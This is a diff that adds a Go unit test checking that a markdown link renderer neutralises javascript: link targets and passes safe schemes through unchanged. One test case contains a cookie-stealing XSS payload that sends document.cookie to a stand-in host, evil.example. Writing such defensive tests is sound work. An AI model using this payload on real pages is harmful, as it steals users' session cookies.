@@ -0,0 +1,27 @@
+package main
+
+import "testing"
+
+// TestRenderInlineRejectsUnsafeLinkSchemes verifies that a javascript: (or
+// other non-allowlisted scheme) link target is neutralized rather than
+// emitted verbatim into the href attribute.
+func TestRenderInlineRejectsUnsafeLinkSchemes(t *testing.T) {
+	cases := []struct {
+		name string
+		href string
+		want string
+	}{
+		{"javascript", "javascript:location='http://evil.example/steal?c='+document.cookie", `<a href="#">click</a>`},
+		{"https", "https://example.com", `<a href="https://example.com">click</a>`},
+		{"relative", "/docs/readme.md", `<a href="/docs/readme.md">click</a>`},
+		{"mailto", "mailto:a@example.com", `<a href="mailto:a@example.com">click</a>`},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			got := renderInline("[click](" + c.href + ")")
+			if got != c.want {
+				t.Fatalf("renderInline(%q) = %q, want %q", c.href, got, c.want)
+			}
+		})
+	}
+}